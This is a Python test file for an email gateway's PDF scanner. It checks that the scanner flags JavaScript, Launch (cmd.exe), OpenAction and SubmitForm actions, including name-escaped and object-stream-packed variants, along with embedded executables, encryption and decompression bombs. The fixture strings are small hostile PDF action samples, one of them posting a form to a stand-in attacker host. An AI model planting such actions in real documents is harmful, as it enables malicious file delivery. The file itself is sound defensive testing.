"""PDF: what it does and where it leads is seen, plain or packed; what it carries is found."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.anatomy.documents.pdf import members
from gateway.anatomy.examine import examine
from gateway.anatomy.findings import Findings
from tests.anatomy.making.letters import attachment, multipart
from tests.anatomy.making.papers import pdf, pdf_stream

SECRET = b"MZ what has to be found" * 9


def content_of(octets):
    return examine(multipart(attachment(octets, "a.pdf", "application/pdf"))).content


ACTIONS = [
    (b"<< /S /JavaScript /JS (app.alert(1)) >>", "pdf.javascript"),
    (b"<< /S /J#61vaScript /J#53 (x) >>", "pdf.javascript"),
    (b"<< /Type /Action /S /Launch /F (cmd.exe) >>", "pdf.launch"),
    (b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS 9 0 R >> >>", "pdf.open_action"),
    (b"<< /S /SubmitForm /F (https://evil.example/) >>", "pdf.form"),
]


@pytest.mark.parametrize(("octets", "defect"), ACTIONS)
def test_an_action_is_seen(octets, defect):
    assert defect in content_of(pdf(octets)).defects


@pytest.mark.parametrize(("octets", "defect"), ACTIONS)
def test_an_action_in_a_packed_stream_of_objects_is_seen(octets, defect):
    assert defect in content_of(pdf(pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 " + octets))).defects


def test_an_ordinary_file_has_no_oddities():
    page = b"<< /Type /Catalog /OpenAction [3 0 R /XYZ 0 0 1] >>"
    words = pdf_stream(b"", b"BT (the words /JavaScript and /Launch) Tj ET")
    assert not content_of(pdf(page, words)).defects


def test_links_are_known_in_both_ways_of_writing():
    found = content_of(
        pdf(
            b"<< /A << /S /URI /URI (https://a.example/\\(x\\)) >> >>",
            b"<< /URI <68747470733a2f2f622e6578616d706c65> >>",
        )
    )
    assert [(link.url, link.place) for link in found.links] == [
        ("https://a.example/(x)", "pdf"),
        ("https://b.example", "pdf"),
    ]


def test_an_embedded_file_is_found_under_its_name():
    described = b"<< /Type /Filespec /F (invoice.exe) /EF << /F 2 0 R >> >>"
    found = content_of(pdf(described, pdf_stream(b"/Type /EmbeddedFile", SECRET)))
    assert "pdf.embedded" in found.defects
    assert [(part.name, part.sha256) for part in found.parts[1:]] == [
        ("invoice.exe", hashlib.sha256(SECRET).hexdigest())
    ]


def test_what_is_encrypted_and_cannot_be_seen_is_named():
    closed = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xa7\x11garbage\nendstream"
    found = content_of(pdf(closed) + b"trailer << /Encrypt 9 0 R >>")
    assert "pdf.encrypted" in found.defects
    assert "document.encrypted" in found.unscannable
    open_text = content_of(pdf(b"<< /Type /Catalog >>") + b"trailer << /Encrypt 9 0 R >>")
    assert not open_text.unscannable


def test_a_bomb_is_out_of_bounds():
    found = content_of(pdf(pdf_stream(b"/Type /ObjStm", bytes(9 * 1024 * 1024))))
    assert "archive.ratio" in found.unscannable


PIECES = [
    b"/URI (",
    b"stream\n",
    b"endstream",
    b"<< ",
    b"/ObjStm ",
    b"/EmbeddedFile ",
    b"/FlateDecode /Filter ",
    b"(\\",
]


@given(st.binary(max_size=300) | st.lists(st.sampled_from(PIECES), max_size=60).map(b"".join))
@settings(max_examples=200, deadline=None)
def test_any_octets_end_without_an_exception(octets):
    list(members(b"%PDF-1.7 " + octets, Findings()))


def test_fonts_outside_of_every_object_are_passed_over():
    assert not content_of(b"%PDF-1.4\n/Font << /F1 1 0 R >> /ToUnicode 2 0 R\n%%EOF").unscannable
